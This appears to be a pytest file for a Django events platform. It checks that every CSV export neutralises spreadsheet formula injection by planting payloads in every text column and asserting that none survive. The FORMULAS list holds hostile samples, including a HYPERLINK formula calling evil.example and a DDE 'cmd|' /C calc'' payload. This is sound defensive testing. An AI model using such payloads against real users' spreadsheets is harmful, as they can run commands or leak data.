"""CSV formula injection: every CSV the platform writes, with formulas in every text column.

The rows behind each file (events, registrations, partners, initiatives, volunteers,
reports) get a spreadsheet formula in each of their text columns, one per leading character
a spreadsheet runs (= + - @ tab, carriage return). A cell got through when it starts with
one of them in a file; a number (the API's negative longitudes) is left alone on purpose.
"""

import csv
import io
import itertools
import re

import pytest
from django.db import models

from jres.core.spreadsheets import FORMULA_STARTS
from jres.events.models import Event
from jres.exports.datasets import DATASETS
from jres.initiatives.models import Initiative, InitiativeStatus
from jres.registrations.models import Registration
from jres.volunteers.models import Volunteer

from . import tally
from ._forms_cases import build_world, client_of

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?{m}","x")',
    "+SUM(1,1)+{m}",
    "-2+3+cmd|' /C calc'!{m}",
    "@SUM(1,1){m}",
    "\t=1+1+{m}",
    "\r=1+1+{m}",
]
MARKER = re.compile(r"CSV\d{5}Z")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
# Columns whose value the platform checks or derives (keys, addresses, tokens, codes).
NOT_TYPED = {"slug", "token", "parent_token", "language", "status", "postal_code", "levels"}


def _plant(instance, numbers) -> None:
    """A formula in each free text column of `instance` (saved by UPDATE: the forms accept
    such text, and a value typed in the admin or imported gets no other check)."""
    values = {}
    for field in instance._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField) or field.choices:
            continue
        if field.name in NOT_TYPED or (field.max_length or 1000) < 40:
            continue
        mark = f"CSV{next(numbers):05d}Z"
        values[field.name] = FORMULAS[len(values) % len(FORMULAS)].format(m=mark)
    type(instance).objects.filter(pk=instance.pk).update(**values)


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_no_cell_of_any_csv_starts_a_formula(current_edition):
    world = build_world(current_edition)
    Initiative.objects.filter(pk=world.initiative.pk).update(status=InitiativeStatus.PUBLISHED)
    volunteer = Volunteer.objects.create(
        name="Sam", email="sam@example.net", commune=world.france.bordeaux,
        availability="weekly", heard_from="other",
    )  # fmt: skip
    numbers = itertools.count(1)
    for instance in [
        world.event, world.past_event, world.report, world.partner, world.initiative,
        volunteer, *Registration.objects.filter(event=world.event),
    ]:  # fmt: skip
        _plant(instance, numbers)
    # Formulas as the organiser's name too: the partner's export falls back on it.
    type(world.organiser).objects.filter(pk=world.organiser.pk).update(
        display_name="=1+1+CSV99999Z"
    )
    Event.objects.filter(pk__in=[world.event.pk, world.past_event.pk]).update(organisation="")

    files = {
        "registrations (organiser)": (
            "organiser", f"/mes-evenements/{world.event.pk}/inscriptions/export.csv"),
        "volunteers": ("coordinator", "/gestion/benevoles/export.csv"),
        "partner": ("partner_user", f"/ma-collectivite/{world.partner.slug}/export.csv"),
        "API events": (None, "/api/v1/events?format=csv"),
        **{f"exports {kind}": ("coordinator", f"/gestion/donnees/{kind}.csv?edition=toutes")
           for kind in DATASETS},
    }  # fmt: skip
    tried, through, untried = 0, [], []
    for name, (who, url) in files.items():
        hostile = 0
        for row in _rows(client_of(world, who).get(url)):
            for cell in row:
                if not MARKER.search(cell):
                    continue
                hostile += 1
                if cell[:1] in FORMULA_STARTS and not NUMBER.fullmatch(cell):
                    through.append((name, cell))
        tried += hostile
        if not hostile:
            untried.append(name)

    tally.record("csv formula", tried=tried, through=len(through))
    assert through == [], f"cells a spreadsheet would run: {through}"
    # Each file carried formulas: none passed for want of hostile rows in it.
    assert untried == [], f"files without a planted formula: {untried}"


def test_negative_numbers_stay_numbers_in_the_api(current_edition):
    """The API's coordinates are numbers, not text: a longitude west of Greenwich keeps its
    minus sign (a neutralised "-0.58" would break every re-user's import)."""
    world = build_world(current_edition)
    rows = _rows(client_of(world, None).get("/api/v1/events?format=csv"))
    longitude = rows[0].index("longitude")
    values = [row[longitude] for row in rows[1:] if row[longitude]]
    assert values and all(NUMBER.fullmatch(value) and value.startswith("-") for value in values)
